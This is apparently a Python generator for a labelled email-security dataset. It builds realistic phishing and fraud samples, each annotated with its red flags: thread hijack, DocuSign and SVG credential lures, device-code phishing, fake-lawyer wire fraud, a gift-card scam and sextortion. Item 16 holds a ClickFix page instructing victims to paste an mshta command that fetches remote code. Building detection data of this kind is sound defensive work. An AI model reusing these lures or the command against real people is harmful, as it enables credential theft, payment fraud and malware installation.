"""Attack messages, English (09-16)."""
import base64
import html as H

from common import *  # noqa: F401,F403

F = 'attack'


def svg_doc(title, subtitle, button, url, color='#0b5cad', lines=9, note='This document is protected. Use the button to view the full document.'):
    bars = ''.join('  <rect x="100" y="%d" width="%d" height="12" rx="2" fill="#e4e4e4"/>\n' % (230 + i * 28, 620 - (i * 37) % 240)
                   for i in range(lines))
    u = H.escape(url)
    return ('<?xml version="1.0" encoding="UTF-8" standalone="no"?>\n'
            '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="820" height="1060" viewBox="0 0 820 1060">\n'
            '  <rect width="820" height="1060" fill="#f1f1f1"/>\n'
            '  <rect x="60" y="50" width="700" height="960" fill="#ffffff" stroke="#cfcfcf"/>\n'
            '  <text x="100" y="130" font-family="Arial, Helvetica, sans-serif" font-size="28" font-weight="bold" fill="#1f3864">%s</text>\n'
            '  <text x="100" y="170" font-family="Arial, Helvetica, sans-serif" font-size="16" fill="#555555">%s</text>\n'
            '%s'
            '  <rect x="60" y="50" width="700" height="960" fill="#ffffff" fill-opacity="0.55"/>\n'
            '  <a xlink:href="%s" href="%s" target="_blank">\n'
            '    <rect x="250" y="560" width="320" height="56" rx="4" fill="%s"/>\n'
            '    <text x="410" y="595" text-anchor="middle" font-family="Arial, Helvetica, sans-serif" font-size="19" font-weight="bold" fill="#ffffff">%s</text>\n'
            '  </a>\n'
            '  <text x="410" y="650" text-anchor="middle" font-family="Arial, Helvetica, sans-serif" font-size="13" fill="#666666">%s</text>\n'
            '</svg>\n' % (H.escape(title), H.escape(subtitle), bars, u, u, color, H.escape(button), H.escape(note))).encode('utf-8')


def build():
    # ------------------------------------------------------------------ 09 thread hijack, compromised diamond supplier
    t = dt(2026, 11, 13, 1, 47, 9)
    florian_mid = internal_msgid('a09-florian-reply')
    b09 = REG[('business', 9)]
    quoted = '''Dear Pieter,

thank you, the parcel arrived complete on Friday. We will keep the 1.52 ct F
VS1 for the Bond Street client; the rest stays on memo until 3 December.
Please send the invoice for the 1.52 ct as usual.

Best regards,
Florian Weiß
Procurement - Example Group AG
'''
    link = 'https://vandamme-diamonds.docs-viewer.app/s/VD2611?e=' + S('proc')[1]
    body = '''Dear Florian,

Following up on the parcel: our finance department has issued the invoice for the 1.52 ct F VS1 together with the updated memo for the remaining stones. Because of the size of the files they have been shared through our secure document portal:

[[View documents (VD-2611)|%s]]

You will need to sign in with your company e-mail to access them. Please confirm receipt once you have reviewed.

Kind regards,
Pieter

--
Pieter Van Damme
Van Damme Diamonds BV
Hoveniersstraat 30, bus 211 | 2018 Antwerpen | Belgium
T +32 3 232 41 87 | M +32 475 61 22 09
''' % link
    qh = 'On Mon, 9 Nov 2026 at 11:02, Florian Weiß <%s> wrote:' % S('proc')[1]
    make(F, 9, 'en', 'thread-hijack-diamond-supplier-portal-link', frm=C('vandamme'), to=[S('proc')],
         subject='Re: Parcel VD-2611 – memo and GIA report numbers', t=t, irt=florian_mid,
         refs='%s %s' % (b09, florian_mid), infra=P(I.gmail),
         body=alt(text(tpl.plain(body, 'gmail') + '\n' + qh + '\n' + quote(quoted), 'UTF-8', 'quoted-printable', quote_cs=False),
                  html(tpl.gmail_reply_html(body, qh, quoted), 'UTF-8', 'quoted-printable', quote_cs=False)),
         order='gmail',
         what='Reply in the genuine VD-2611 thread from the diamond supplier\'s real mailbox, sending the invoice via a "secure portal" that needs a login.',
         why='Thread hijack from a compromised Google Workspace mailbox: sent at 02:47 local time, the supplier '
             'normally attaches PDFs (business 09), the link goes to a look-alike sub-domain on docs-viewer.app with '
             'the victim\'s address pre-filled and asks for company credentials (AiTM credential phishing).')

    # ------------------------------------------------------------------ 10 DocuSign-themed HTML attachment via SES
    t = dt(2026, 11, 18, 15, 26, 50)
    em = S('uk_acc')[1]
    target = 'https://docusign-view.eu-secure.workers.dev/env/%s/#%s' % (h('a10env', 24), base64.b64encode(em.encode()).decode())
    htm = ('<!DOCTYPE html>\n<html lang="en">\n<head>\n<meta charset="utf-8">\n<title>Docusign - Completed</title>\n'
           '<meta http-equiv="refresh" content="0; url=%s">\n</head>\n<body style="font-family:Arial,sans-serif;background:#f4f4f4">\n'
           '<div style="max-width:480px;margin:80px auto;background:#fff;padding:32px;text-align:center;border-top:4px solid #4C00FF">\n'
           '<p style="font-size:18px">Loading your completed document&hellip;</p>\n'
           '<p style="font-size:13px;color:#666">If you are not redirected automatically, <a href="%s">open the document</a>.</p>\n'
           '</div>\n</body>\n</html>\n' % (H.escape(target), H.escape(target))).encode()
    body = '''Your document has been completed

All parties have completed Consignment Agreement Q4-2026 – Example Group UK Ltd.

A secure copy of the completed document is attached to this email. Open the attachment in your browser to view and download it.

Powered by Docusign

Do Not Share This Email
This email contains a secure link to Docusign. Please do not share this email, link, or access code with others.

Questions about the Document?
If you need to modify the document or have questions about the details in the document, please reach out to the sender by emailing them directly.
'''
    hb = tpl.service_html('Your document has been completed', body.split('\n\n')[1:3], button=None,
                          footer='\n'.join(body.split('\n\n')[3:]), color='#4C00FF', brand='Docusign', lang='en')
    make(F, 10, 'en', 'docusign-lure-html-attachment', frm=('Docusign', 'dse@docusign-mail-eu.net'), to=[S('uk_acc')],
         subject='Completed: Consignment Agreement Q4-2026 – Example Group UK Ltd', t=t, infra=P(I.ses),
         body=mixed(alt(text(body, 'utf-8', 'quoted-printable'), html(hb, 'utf-8', 'quoted-printable')),
                    attach(htm, 'text/html', 'Completed_Consignment_Agreement_Q4-2026.html')),
         bstyle='service', date_zone='UTC',
         what='"Completed" DocuSign notice with the "document" as an HTML attachment.',
         why='DocuSign impersonation from docusign-mail-eu.net through Amazon SES (real envelopes come from '
             'docusign.net, see business 10); DocuSign never attaches HTML: the attachment meta-refreshes to a '
             'workers.dev credential page with the recipient\'s address base64-encoded in the fragment.')

    # ------------------------------------------------------------------ 11 SVG attachment from compromised dental practice
    t = dt(2026, 10, 29, 9, 41, 12)
    em = S('uk_mgr')[1]
    url = 'https://brightsmile-remit.blob.core.windows.net/docs/view.html#' + base64.b64encode(em.encode()).decode()
    svg = svg_doc('REMITTANCE ADVICE', 'Payment ref. 0048213 - BACS - 29/10/2026', 'View Secure Document', url)
    body = '''Good morning,

Please find attached remittance advice for the payment released today (ref. 0048213).

Kind regards,

Sarah Collins
Accounts Payable
Bright Smile Dental Care Ltd
217 Chiswick High Road, London W4 2DW
'''
    make(F, 11, 'en', 'svg-remittance-advice-compromised-sender', frm=('Sarah Collins', 'accounts@brightsmile-dental.co.uk'),
         to=[S('uk_mgr')], subject='Remittance Advice – Payment Ref. 0048213', t=t,
         infra=P(I.exim_cpanel, server='lon-shared07.ukwebhosting-cpanel.co.uk', server_ip='185.151.30.%d' % num('a11', 10, 200),
                 client_ip='102.89.%d.%d' % (num('a11a', 2, 250), num('a11b', 2, 250)), mua='roundcube', tz='UK'),
         body=mixed(alt(text(body, 'UTF-8', '7bit'), html(tpl.tb_html(body), 'UTF-8', '7bit')),
                    attach(svg, 'image/svg+xml', 'Remittance_Advice_0048213.svg')),
         date_zone='UK',
         what='"Remittance advice" from a dental practice with an SVG attachment.',
         why='SVG lure: the image is a fake blurred document with a clickable link to an Azure blob page '
             '(credential phishing, victim address in the fragment); no business relationship with a dental '
             'practice; its cPanel mailbox was used via webmail from a Nigerian mobile IP (compromised account).')

    # ------------------------------------------------------------------ 12 device-code phishing, look-alike Swiss brand
    t = dt(2026, 11, 17, 12, 58, 22)
    body = '''Dear Thomas,

As announced by our regional director, we would like to review the Q4 sell-out figures and the 2027 allocation of the Joux Perpétuel with you today at 15:00 CET. We are now using a secured Teams environment for partner meetings.

To join, please authorise your device once:
1. Go to https://microsoft.com/devicelogin
2. Enter the code: KFQ7HLM2D
3. Sign in with your Example Group account and confirm.

The code is valid for 15 minutes. If it has expired, simply reply and I will send you a new one.

Kind regards,
Sophie

Sophie Rochat
Distribution Manager DACH & UK
Montres Vallorbe SA | Route de la Vallée 12 | 1347 Le Sentier
T +41 21 845 33 24
'''
    make(F, 12, 'en', 'device-code-phishing-teams-meeting', frm=('Sophie Rochat', 's.rochat@montres-vallorbe.co'), to=[S('sales')],
         subject='Q4 sell-out review & 2027 allocation – Teams today 15:00', t=t,
         infra=P(I.m365, lang='en-GB', obe='EUR03-AS8-obe'), body=ol_alt(body, 'utf-8', lang='EN-GB'), order='outlook',
         what='"Sophie Rochat" invites to a Teams review and asks to enter a code at microsoft.com/devicelogin.',
         why='Device-code phishing (Storm-2372 style): the only link is Microsoft\'s genuine device-login page, but '
             'the code was generated by the attacker, so signing in hands the attacker OAuth tokens for the '
             'victim\'s account; sender uses the look-alike montres-vallorbe.co (genuine: .ch) on a Microsoft 365 tenant.')

    # ------------------------------------------------------------------ 13 fake lawyer BEC
    t = dt(2026, 12, 3, 10, 34, 5)
    body = '''Dear Ms Shah,

I act for Example Group AG in connection with a confidential transaction (code name "Project Solitaire"): the acquisition of a bench-jewellery workshop and its stock in Hatton Garden. Mr Johannes Köhler has asked me to contact you directly, as the London entity will be the contracting party; his letter of authority is attached.

Exchange of contracts is scheduled for today. To secure exclusivity, a refundable deposit of £186,400.00 must be received in our client account before 3 pm:

Account name: Harrington Kemp LLP – Client Account
Sort code: 04-00-53
Account number: 15842097
IBAN: %s
Reference: SOLITAIRE/EG

Because the vendor is part of a listed group, the matter is subject to strict confidentiality under UK MAR. Please do not discuss it with colleagues, including Mr Bennett, until the announcement on Monday. Mr Köhler is travelling and unavailable by telephone today; he will confirm by email.

Please confirm by return once the payment has been released.

Yours sincerely,

Edward Harrington
Partner
Harrington Kemp LLP
One Fleet Place, London EC4M 7WS
''' % fmt_iban(BANK['uk_fraud'])
    loa = pdf.letter([('H', 'Example Group AG'), 'Goldschmiedstraße 12 · 75172 Pforzheim · Germany', ('R',), ('S', 10),
                      'To: Harrington Kemp LLP, One Fleet Place, London EC4M 7WS', 'Date: 2 December 2026', ('S', 10),
                      ('B', 'LETTER OF AUTHORITY - PROJECT SOLITAIRE'),
                      ('W', 'We hereby authorise Harrington Kemp LLP to act on behalf of Example Group AG and Example Group '
                            'UK Ltd in connection with Project Solitaire and to instruct our finance staff in London '
                            'regarding the payment of the exclusivity deposit and any related amounts.'),
                      ('W', 'This matter is strictly confidential. Staff are asked to follow the instructions of '
                            'Mr Edward Harrington without consulting other members of the organisation.'),
                      ('S', 30), 'Johannes Köhler', 'Chief Executive Officer'],
                     producer='iLovePDF', creator='Microsoft Word', title='LOA', author='User',
                     created=pdfdate(dt(2026, 12, 2, 22, 10)))
    make(F, 13, 'en', 'fake-lawyer-escrow-deposit', frm=('Edward Harrington', 'e.harrington@harringtonkemp-law.com'),
         to=[S('uk_acc')], subject='Project Solitaire – strictly private & confidential', t=t,
         infra=P(I.vps, helo='mail.harringtonkemp-law.com', rdns='vps-4f1a2c3b.vps.ovh.net', ip='51.38.%d.%d' % (
             num('a13a', 2, 250), num('a13b', 2, 250)), mailer='outlook', local_hop=False),
         body=mixed(ol_alt(body, 'windows-1252', lang='EN-GB'), attach(loa, 'application/pdf', 'Letter_of_Authority_Project_Solitaire.pdf')),
         hcs='windows-1252', order='outlook', bstyle='outlook', date_zone='UK',
         what='A "solicitor" acting for the CEO asks the UK accountant to wire a £186,400 deposit for a secret acquisition today.',
         why='Fake-lawyer BEC: unknown firm on a freshly registered domain sent from an OVH VPS; forged letter of '
             'authority (iLovePDF, created at night); secrecy including the line manager, CEO "unreachable", '
             'same-day deadline, client account at an e-money/clearing bank; compare the genuine solicitors in '
             'business 13 who insist on phone verification.')

    # ------------------------------------------------------------------ 14 gift-card scam, manager impersonation
    t = dt(2026, 12, 14, 11, 3, 37)
    body = '''Hi Priya,

Are you at your desk? I need a quick favour. I'm stuck in a client meeting at the showroom and can't take calls.

We want to surprise a few of our top clients with Apple gift cards before Christmas – could you pick up 8 x £200 on your way back from lunch (Tesco or Argos have them), scratch the backs and send me clear photos of the codes here? I'll sort out the reimbursement with you this afternoon, just keep the receipts.

Thanks, really appreciate it.

Oliver

Sent from my iPhone
'''
    make(F, 14, 'en', 'gift-card-request-manager-impersonation', frm=('Oliver Bennett', 'oliver.bennett.office@gmail.com'),
         to=[S('uk_acc')], subject='Quick favour', t=t, infra=P(I.gmail),
         msgid='<%s@gmail.com>' % uuid('a14-apple', upper=True),
         extra=[('X-Mailer', 'iPhone Mail (22B91)')],
         body=alt(text(body, 'utf-8', 'quoted-printable'), html(tpl.apple_html(body), 'utf-8', 'quoted-printable')),
         bstyle='apple', date_zone='UK',
         what='"Oliver Bennett" asks the UK accountant from Gmail to buy £1,600 of Apple gift cards and send photos of the codes.',
         why='Gift-card scam: manager\'s name on an unknown Gmail address, cannot take calls, urgency, asks for '
             'scratched card codes by photo; company policy is POs and no gift cards (business 14).')

    # ------------------------------------------------------------------ 15 sextortion with Bitcoin address
    t = dt(2026, 10, 31, 3, 14, 58)
    btc = money.btc_p2wpkh('a15-extortion-wallet')
    assert money.bech32_ok(btc)
    body = '''Hello Thomas,

I will get straight to the point. I know your password: Pforzheim#2019

I got it, together with access to your devices, through a vulnerability in a router you connected to some months ago. Since then I have been watching your activity, including the websites you visit when you think you are alone. I have recordings from your camera, synchronised with what you were watching, and I have copied your contacts, your messages and the list of people you work with at Example Group.

I am not interested in ruining your life. Transfer 1,450 USD in Bitcoin to the address below within 48 hours of opening this message and everything will be deleted permanently. You will never hear from me again.

BTC address: %s

If you do not know how to buy Bitcoin, search for "buy bitcoin" - it takes ten minutes. The 48 hours start now: this message contains a tracking pixel and I know when you have read it. Do not reply, this address is not monitored. Do not go to the police - I will notice, and the recordings go to all your contacts and colleagues the same day.

This message was sent from your own account, which proves that I have access to it.
''' % btc
    make(F, 15, 'en', 'sextortion-bitcoin-spoofed-self', frm=('', S('sales')[1]), to=[('', S('sales')[1])],
         subject='Your account has been compromised - read carefully', t=t,
         infra=P(I.vps, helo='example.com', rdns='static.vnpt.vn', ip='113.176.92.14', mailer='other', local_hop=False,
                 tls=None, msgid_host='example.com'),
         body=text(body, 'us-ascii', '7bit', quote_cs=False), date_zone='UTC',
         what='Extortion mail claiming webcam recordings, demanding USD 1,450 in Bitcoin within 48 hours.',
         why='Sextortion: From spoofs the recipient\'s own address, sent directly from a Vietnamese broadband IP '
             'with our domain as HELO; quotes an old breached password; valid bech32 Bitcoin address, deadline, '
             'threats; no real compromise.')

    # ------------------------------------------------------------------ 16 ClickFix via HTML attachment (Brevo)
    t = dt(2026, 11, 12, 6, 22, 40)
    cmd = 'mshta https://mv-docs-verify.com/cf/48211 # Cloudflare verification ID 7F3A-9921 - I am not a robot'
    htm = ('<!DOCTYPE html>\n<html lang="en">\n<head>\n<meta charset="utf-8">\n<title>Just a moment...</title>\n'
           '<style>body{font-family:system-ui,Segoe UI,Arial,sans-serif;background:#fafafa;color:#222}'
           '.box{max-width:560px;margin:70px auto;background:#fff;border:1px solid #ddd;padding:28px 32px}'
           'code{display:block;background:#f1f1f1;border:1px solid #ccc;padding:10px;margin:10px 0;font-size:13px;word-break:break-all}'
           'ol li{margin:8px 0}</style>\n</head>\n<body>\n<div class="box">\n'
           '<h2>Montres Vallorbe &ndash; Secure Document Access</h2>\n'
           '<p><b>Verify you are human</b></p>\n'
           '<p>The import documents for shipment MV-DE-48211 are protected. Complete the verification to continue:</p>\n'
           '<ol>\n<li>Press <b>Windows + R</b></li>\n<li>Press <b>CTRL + V</b></li>\n<li>Press <b>Enter</b></li>\n</ol>\n'
           '<p>If the verification code was not copied automatically, copy it here first:</p>\n'
           '<code>%s</code>\n'
           '<p style="font-size:12px;color:#777">Performance &amp; security by Cloudflare &middot; Ray ID: %s</p>\n'
           '</div>\n</body>\n</html>\n' % (H.escape(cmd), h('a16ray', 16))).encode()
    body = '''Dear Mr Weiss,

Brink's has informed us that the delivery of shipment MV-DE-48211 to your Pforzheim vault cannot take place today: the German customs broker is missing the signed import declaration and your EORI confirmation.

Please open the attached document, complete the access verification and sign the declaration electronically before 11:00, so that today's delivery slot can be kept. Otherwise the next available slot is Tuesday, 17 November.

Best regards,

Logistics & Customer Service
Montres Vallorbe SA
Route de la Vallée 12 | 1347 Le Sentier | Switzerland
'''
    make(F, 16, 'en', 'clickfix-shipment-on-hold-html', frm=('Montres Vallorbe Logistics', 'logistics@montresvallorbe-logistics.com'),
         to=[S('proc')], subject='Shipment MV-DE-48211 – delivery on hold: import documents incomplete', t=t,
         infra=P(I.brevo),
         body=mixed(alt(text(body, 'utf-8', 'quoted-printable'), html(tpl.tb_html(body, 'utf-8'), 'utf-8', 'quoted-printable')),
                    attach(htm, 'text/html', 'MV-DE-48211_Import_Documents.html')),
         bstyle='default',
         what='"Montres Vallorbe Logistics" says today\'s delivery is on hold and sends an HTML "document" with a human-verification step.',
         why='ClickFix: the HTML attachment is a fake Cloudflare check telling the user to press Win+R, paste and '
             'Enter a command (mshta fetching a remote HTA); sender is the look-alike montresvallorbe-logistics.com '
             'via Brevo, timed on the genuine delivery day (business 16) with urgency.')
